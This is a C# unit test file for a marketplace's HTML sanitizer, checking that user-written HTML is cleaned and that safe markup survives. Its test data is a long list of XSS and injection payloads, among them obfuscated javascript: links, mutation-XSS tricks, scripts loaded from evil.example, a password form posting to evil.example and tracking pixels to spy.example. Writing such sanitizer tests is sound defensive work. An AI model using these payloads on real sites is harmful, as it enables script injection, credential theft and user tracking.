using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Marketplace.Ui;

namespace Marketplace.Ui.Tests.UserTexts;

/// <summary>HTML that somebody made to harm whoever reads it.</summary>
public sealed class CleanHtmlTests
{
    private static readonly HtmlRules Site = new(relativeLinks: true, "pictures.example");

    private static readonly HashSet<string> Harmless = new(StringComparer.Ordinal)
    {
        "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "em", "h1", "h2", "hr", "i", "img", "li", "ol", "p", "pre",
        "strong", "table", "tbody", "td", "tr", "ul",
    };

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>")]
    [InlineData("<script/x>alert(1)</script>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=x:alert(alt) onerror=eval(src) alt=1>")]
    [InlineData("<img src=\"javascript:alert(1)\">")]
    [InlineData("<img src=\"data:text/html;base64,PHNjcmlwdD4=\">")]
    [InlineData("<img src=\"https://spy.example/p.gif\">")]
    [InlineData("<img src=\"//spy.example/p.gif\">")]
    [InlineData("<img src=\"/\\spy.example/p.gif\">")]
    [InlineData("<img srcset=\"https://spy.example/p.gif 1x\">")]
    [InlineData("<img lowsrc=\"https://spy.example/p.gif\" dynsrc=\"https://spy.example/p.gif\">")]
    [InlineData("<img src=\"https://pictures.example@spy.example/p.gif\">")]
    [InlineData("<img src=\"https://pictures.example.spy.example/p.gif\">")]
    [InlineData("<img src=\"http://pictures.example/p.gif\">")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
    [InlineData("<a href=\" javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"\u0001javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">x</a>")]
    [InlineData("<a href=\"http://plain.example\">x</a>")]
    [InlineData("<a href=\"ftp://files.example\">x</a>")]
    [InlineData("<a href=\"//evil.example\">x</a>")]
    [InlineData("<a href=\"/\\evil.example\">x</a>")]
    [InlineData("<a href=\"\\\\evil.example\">x</a>")]
    [InlineData("<a href=\"/\t/evil.example\">x</a>")]
    [InlineData("<a href=\"https://ok.example\" onclick=alert(1) onmouseover=alert(1)>x</a>")]
    [InlineData("<a href=\"https://ok.example\" target=_blank rel=opener>x</a>")]
    [InlineData("<a href=\"https://ok.example\" ping=\"https://spy.example\">x</a>")]
    [InlineData("<p style=\"position:fixed;inset:0;background:url(https://spy.example)\">x</p>")]
    [InlineData("<p class=\"modal show\" id=\"csrf\" name=\"x\">x</p>")]
    [InlineData("<style>@import 'https://spy.example/x.css'; a[href^='a'] { background: url(//spy.example) }</style>")]
    [InlineData("<link rel=stylesheet href=https://spy.example/x.css>")]
    [InlineData("<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>")]
    [InlineData("<input type=text autofocus onfocus=alert(1)>")]
    [InlineData("<button formaction=\"https://evil.example\" form=\"pay\">Pay</button>")]
    [InlineData("<select><option>x</option></select><textarea>x</textarea>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example\">")]
    [InlineData("<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<!--<img src=\"--><img src=x onerror=alert(1)//\">")]
    [InlineData("<base href=\"https://evil.example/\">")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("<video><source onerror=alert(1)></video><audio src=https://spy.example/a></audio>")]
    [InlineData("<details ontoggle=alert(1) open>x</details>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<a href=\"https://ok.example\"><script>alert(1)</script>x</a>")]
    [InlineData("<p title='\"><script>alert(1)</script>'>x</p>")]
    [InlineData("<plaintext><script>alert(1)</script>")]
    [InlineData("<table background=\"https://spy.example/p.gif\"><tr><td>x</td></tr></table>")]
    public void Nothing_of_an_attack_is_left(string attack)
    {
        foreach (var html in (string[])[attack, $"<p>Before {attack} after</p>", $"<ul><li>{attack}"])
        {
            // What a browser makes of it counts, and it may read the text once more than we did.
            var clean = Site.Cleaner.Clean(html);
            AssertHarmless(clean);
            Assert.Equal(clean, Site.Cleaner.Clean(clean));
        }
    }

    [Theory]
    [InlineData("<p>Hello <strong>Ann</strong></p>\n", "<p>Hello <strong>Ann</strong></p>\n")]
    [InlineData(
        "<a href=\"https://ok.example/?a=1&amp;b=2\" title=\"t\">x</a>", "<a href=\"https://ok.example/?a=1&amp;b=2\" title=\"t\">x</a>")]
    [InlineData("<a href=\"mailto:ann@example.com\">x</a>", "<a href=\"mailto:ann@example.com\">x</a>")]
    [InlineData("<a href=\"/docs/start#top\">x</a>", "<a href=\"/docs/start#top\">x</a>")]
    [InlineData("<a href=\"start?a=b\">x</a>", "<a href=\"start?a=b\">x</a>")]
    [InlineData(
        "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
        "<a href=\"https://ok.example\" target=\"_blank\" rel=\"noopener\">x</a>")]
    [InlineData("<img src=\"https://PICTURES.example/p.gif\" alt=\"a\">", "<img src=\"https://PICTURES.example/p.gif\" alt=\"a\">")]
    [InlineData("<img src=\"/media/p.gif\">", "<img src=\"/media/p.gif\">")]
    [InlineData("<ol start=\"3\"><li>x</li></ol>", "<ol start=\"3\"><li>x</li></ol>")]
    [InlineData("<pre><code>&lt;script&gt;</code></pre>", "<pre><code>&lt;script&gt;</code></pre>")]
    public void What_a_text_needs_stays(string html, string expected) => Assert.Equal(expected, Site.Cleaner.Clean(html));

    [Theory]
    [InlineData("<a href=\"/docs\">x</a>", "<a>x</a>")]
    [InlineData("<a href=\"#\">x</a>", "<a href=\"#\">x</a>")]
    [InlineData("<a href=\"http://plain.example\">x</a>", "<a href=\"http://plain.example\">x</a>")]
    [InlineData("<a href=\"ftp://files.example\">x</a>", "<a>x</a>")]
    [InlineData("<img src=\"http://pictures.example/p.gif\">", "<img>")]
    [InlineData("<img src=\"/media/p.gif\">", "<img>")]
    [InlineData("<img src=\"https://pictures.example/p.gif\">", "<img>")]
    public void A_mail_leads_to_whole_addresses_and_shows_no_pictures(string html, string expected) =>
        Assert.Equal(expected, HtmlRules.Mail.Cleaner.Clean(html));

    internal static void AssertHarmless(string html)
    {
        foreach (var element in new HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Harmless);
            foreach (var attribute in element.Attributes)
                AssertHarmless(element, attribute);
            Assert.True(!element.HasAttribute("target") || element.GetAttribute("rel") == "noopener", html);
        }
    }

    private static void AssertHarmless(IElement element, IAttr attribute)
    {
        switch (attribute.Name)
        {
            case "href":
                Assert.Matches(@"^(https://ok\.example|mailto:|#$)", attribute.Value);
                break;
            case "src":
                Assert.Matches(@"^(x$|https://pictures\.example/)", attribute.Value);
                break;
            default:
                Assert.Contains(attribute.Name, (string[])["alt", "title", "target", "rel", "align", "open"]);
                break;
        }

        Assert.True(element.LocalName is "a" || attribute.Name is not "href", element.OuterHtml);
    }
}
